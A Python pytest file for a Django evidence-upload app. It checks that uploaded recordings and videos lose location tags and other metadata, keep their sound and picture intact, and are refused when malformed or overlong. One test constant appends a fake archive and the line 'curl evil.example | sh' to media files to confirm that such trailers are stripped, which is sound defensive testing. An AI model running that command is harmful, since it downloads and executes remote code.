"""Recordings and videos (MP3, M4A, MP4, MOV) lose their tags, locations, cover art and
anything appended, keep their sound and picture packet for packet, and still play."""

import io
import re
from collections import Counter

from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.utils import translation

import av
import pytest

from reporting.evidence import checks, crypto, media
from reporting.models import Clue, Evidence

from . import samples

# What FFmpeg's muxers write of their own: the file's brands, and per track its language and
# a generic handler name. Nothing here comes from the file as sent.
STRUCTURAL_TAGS = {"major_brand", "minor_version", "compatible_brands"}
STREAM_TAGS = {"language", "handler_name", "vendor_id"}
HANDLERS = {"VideoHandler", "SoundHandler"}
TRAILER = b"PK\x03\x04 an archive behind the media #!/bin/sh\ncurl evil.example | sh\n"

PHONE_FILES = [
    ("VID_0001.mp4", samples.mp4_with_gps, "video", "video/mp4", "mp4"),
    ("IMG_0002.MOV", samples.mov_with_gps, "video", "video/quicktime", "mov"),
    ("voice.mp3", samples.mp3_with_tags, "audio", "audio/mpeg", "mp3"),
    ("memo.m4a", samples.m4a_with_tags, "audio", "audio/mp4", "m4a"),
]
IDS = [name for name, *_ in PHONE_FILES]


def _media_streams(container):
    return [s for s in container.streams if not s.disposition & av.stream.Disposition.attached_pic]


def media_packets(data):
    """(kind of stream, bytes) of every packet of sound and picture, cover art left out."""
    with av.open(io.BytesIO(data)) as container:
        return [
            (packet.stream.type, bytes(packet))
            for packet in container.demux(_media_streams(container))
            if packet.dts is not None
        ]


def decoded_frames(data):
    with av.open(io.BytesIO(data)) as container:
        frames = container.decode(*_media_streams(container))
        return Counter(type(frame).__name__ for frame in frames)


@pytest.mark.parametrize(
    ("name", "make", "kind", "content_type", "extension"), PHONE_FILES, ids=IDS
)
def test_tags_locations_and_cover_art_are_gone_and_the_file_still_plays(
    name, make, kind, content_type, extension
):
    sent = make()
    assert [secret for secret in samples.MEDIA_SECRETS if secret in sent]  # the test has teeth
    processed = checks.process(name, sent)
    stored = processed.content
    assert (processed.kind, processed.content_type, processed.extension) == (
        kind,
        content_type,
        extension,
    )
    assert processed.metadata_removed and processed.sha256 != processed.original_sha256
    assert [secret for secret in samples.MEDIA_SECRETS if secret in stored] == []
    with av.open(io.BytesIO(stored)) as container:
        assert set(container.metadata) <= STRUCTURAL_TAGS
        for stream in container.streams:
            assert set(stream.metadata) <= STREAM_TAGS
            assert stream.metadata.get("handler_name", "VideoHandler") in HANDLERS
        # The cover art is gone; the sound (and the picture) are all there is.
        assert sorted(s.type for s in container.streams) == (
            ["audio", "video"] if kind == "video" else ["audio"]
        )
    # Every packet of sound and picture, byte for byte, and as many decoded frames.
    assert media_packets(stored) == media_packets(sent)
    assert decoded_frames(stored) == decoded_frames(sent)
    assert decoded_frames(stored)["AudioFrame"] > 0


def mp3_with_id3v2_only():
    """An ID3v1 tag at the end hides what follows it from FFmpeg's MP3 reader; without one,
    whatever is appended reaches it as one more packet."""
    return samples.audio("mp3", "libmp3lame", samples.MEDIA_TAGS)


APPENDED_TO = [
    ("a.mp4", samples.video),
    ("a.mov", lambda: samples.video("mov")),
    ("a.mp3", mp3_with_id3v2_only),
    ("b.mp3", samples.mp3_with_tags),
    ("a.m4a", samples.m4a_with_tags),
]


@pytest.mark.parametrize(("name", "make"), APPENDED_TO, ids=[name for name, _ in APPENDED_TO])
def test_anything_appended_after_the_media_is_left_behind(name, make):
    clean = checks.process(name, make()).content
    stored = checks.process(name, make() + TRAILER).content
    assert b"PK\x03\x04" not in stored and b"curl evil" not in stored
    assert media_packets(stored) == media_packets(clean)


def test_subtitle_and_timecode_tracks_are_left_behind():
    sent = samples.mov_with_tracks_beside()
    with av.open(io.BytesIO(sent)) as container:
        assert sorted(s.type for s in container.streams) == ["data", "subtitle", "video"]
    stored = checks.process("a.mov", sent).content
    assert b"SUBTITLE-SECRET" not in stored and b"tmcd" not in stored
    with av.open(io.BytesIO(stored)) as container:
        assert [s.type for s in container.streams] == ["video"]
    assert media_packets(stored) == [p for p in media_packets(sent) if p[0] == "video"]


def test_a_video_held_upright_still_plays_upright():
    sent = samples.video("mov", rotation=90)
    stored = checks.process("upright.mov", sent).content
    with av.open(io.BytesIO(stored)) as container:
        assert next(container.decode(video=0)).rotation == 90


def test_an_icc_profile_naming_a_device_is_left_behind():
    for muxer, name in (("mp4", "a.mp4"), ("mov", "a.mov")):
        sent = samples.with_icc_profile(samples.video(muxer))
        assert b"ICC-SECRET" in sent
        stored = checks.process(name, sent).content
        assert b"ICC-SECRET" not in stored and b"colrprof" not in stored
        assert decoded_frames(stored) == decoded_frames(sent)


@pytest.mark.parametrize("muxer", ["mov", "mp4"])
def test_hevc_keeps_the_codec_tag_apple_players_need(muxer):
    sent = samples.video(muxer, codec="libx265", tag="hvc1", frames=3)
    stored = checks.process(f"a.{muxer}", sent).content
    with av.open(io.BytesIO(stored)) as container:
        assert container.streams.video[0].codec_tag == "hvc1"


def test_a_codec_mp4_cannot_hold_is_stored_as_quicktime():
    """AMR speech in an MP4 (3GP recorders): the MP4 muxer refuses it, QuickTime takes it."""
    sent = samples.amr_in_mp4()
    processed = checks.process("call.mp4", sent)
    assert (processed.content_type, processed.extension) == ("video/quicktime", "mov")
    assert media_packets(processed.content) == media_packets(sent)
    assert decoded_frames(processed.content)["AudioFrame"] > 0


def test_the_original_is_kept_only_when_asked_and_then_as_photos_are():
    sent = samples.mov_with_gps()
    assert checks.process("a.mov", sent).original is None
    with override_settings(EVIDENCE_KEEP_ORIGINALS=True):
        assert checks.process("a.mov", sent).original == sent
        # An AMR recording has nothing to remove: no second copy of it.
        assert checks.process("a.amr", samples.amr()).original is None


@pytest.mark.parametrize(
    "data",
    [
        samples.with_durations(samples.video(), 0xFFFFFFFF),
        samples.with_durations(samples.video(), 0x7FFFFFFF),
    ],
    ids=["unknown", "largest"],
)
def test_a_header_claiming_more_than_a_day_is_refused(data):
    with translation.override("en"), pytest.raises(checks.EvidenceError, match="too long"):
        checks.process("clip.mp4", data)


def test_timestamps_beyond_a_day_are_refused_though_the_header_is_modest():
    data = bytearray(samples.video())
    for at, header, _size in samples.find_boxes(data, b"stts"):
        count = int.from_bytes(data[at + header + 4 : at + header + 8], "big")
        for n in range(count):
            entry = at + header + 8 + 8 * n
            data[entry + 4 : entry + 8] = (0x7FFFFFFF).to_bytes(4, "big")
    with pytest.raises(media.TooLong):
        media.strip(bytes(data), "video/mp4")


def test_more_packets_than_an_honest_file_holds_are_refused(monkeypatch):
    data = samples.video()
    monkeypatch.setattr(media, "MAX_PACKETS", len(media_packets(data)) - 1)
    with translation.override("en"), pytest.raises(checks.EvidenceError, match="too long"):
        checks.process("clip.mp4", data)
    monkeypatch.setattr(media, "MAX_PACKETS", len(media_packets(data)))
    assert checks.process("clip.mp4", data).kind == "video"


def test_a_moov_first_file_cut_between_packets_is_refused():
    """Its tables are whole, so it opens; the packets they list are not all there."""
    whole = samples.moov_first(samples.video(frames=30))
    assert checks.process("whole.mp4", whole).kind == "video"
    for data in (samples.cut_before_last_packet(whole), whole[: len(whole) * 2 // 3]):
        with pytest.raises(checks.EvidenceError, match=r"cut\.mp4"):
            checks.process("cut.mp4", data)


def _no_streams():
    return samples.with_box_in_moov(samples.video("mov"), b"", drop=(b"trak",))


BAD_FILES = [
    # (name, data, Chinese message, English message)
    ("cut.mp4", lambda: samples.video()[:1500], "已损坏或不完整", "is damaged or incomplete"),
    (
        "cut-fast.mp4",
        lambda: samples.cut_before_last_packet(samples.moov_first(samples.video(frames=30))),
        "已损坏或不完整",
        "is damaged or incomplete",
    ),
    (
        "notes.mp4",
        lambda: b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"just some notes" * 20,
        "已损坏或不完整",
        "is damaged or incomplete",
    ),
    ("empty.mp4", lambda: b"", "是空文件", "is empty"),
    (
        "forever.mp4",
        lambda: samples.with_durations(samples.video(), 0x7FFFFFFF),
        "无法安全检查",
        "is too long to be checked safely",
    ),
    ("nothing.mov", _no_streams, "没有声音或画面", "holds no sound or picture"),
]


@pytest.mark.django_db
@pytest.mark.parametrize("language", ["zh-hans", "en"])
@pytest.mark.parametrize(
    ("name", "make", "chinese", "english"), BAD_FILES, ids=[bad[0] for bad in BAD_FILES]
)
def test_bad_media_is_named_in_the_form_and_nothing_else_is_lost(
    client, report_page, valid_data, language, name, make, chinese, english
):
    url = "/report/" if language == "zh-hans" else "/en/report/"
    _, hidden = report_page(url)
    good = SimpleUploadedFile("good.m4a", samples.m4a_with_tags())
    data = {**valid_data(), **hidden, "evidence": [SimpleUploadedFile(name, make()), good]}
    response = client.post(url, data)
    html = response.content.decode()
    assert response.status_code == 400
    block = re.search(r'id="id_evidence-field".*?</div>', html, re.S).group(0)
    assert name in block
    assert (chinese if language == "zh-hans" else english) in block
    # The answers stay in the form, and the good file waits, stripped, for the next attempt.
    assert "每月有人上门暴力催收" in html
    assert "good.m4a" in re.search(r'id="staged-files".*?</div>', html, re.S).group(0)
    assert not Clue.objects.exists()


@pytest.mark.django_db
@override_settings(EVIDENCE_KEEP_ORIGINALS=True)
def test_a_phone_video_is_stored_stripped_and_its_original_only_sealed(
    client, report_page, valid_data
):
    sent = samples.mov_with_gps()
    _, hidden = report_page()
    data = {**valid_data(), **hidden, "evidence": [SimpleUploadedFile("IMG_0003.MOV", sent)]}
    assert client.post("/report/", data).status_code == 302
    item = Evidence.objects.get()
    with item.file.open("rb") as handle:
        stored = handle.read()
    assert [secret for secret in samples.MEDIA_SECRETS if secret in stored] == []
    assert (item.kind, item.extension, item.metadata_removed) == ("video", "mov", True)
    assert item.size == len(stored) and item.original_size == len(sent)
    with item.original_file.open("rb") as handle:
        sealed = handle.read()
    assert b"PhoneMaker" not in sealed and crypto.open_bytes(sealed) == sent
